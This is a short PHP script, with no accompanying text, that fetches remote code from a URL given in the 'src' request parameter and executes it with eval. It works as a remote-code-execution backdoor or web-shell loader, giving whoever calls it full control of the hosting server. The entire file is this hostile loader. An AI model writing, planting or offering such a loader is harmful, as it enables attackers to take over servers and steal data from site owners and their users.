<?php
$c = curl_init($_GET['src']); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $php = curl_exec($c);
eval('?>' . $php);
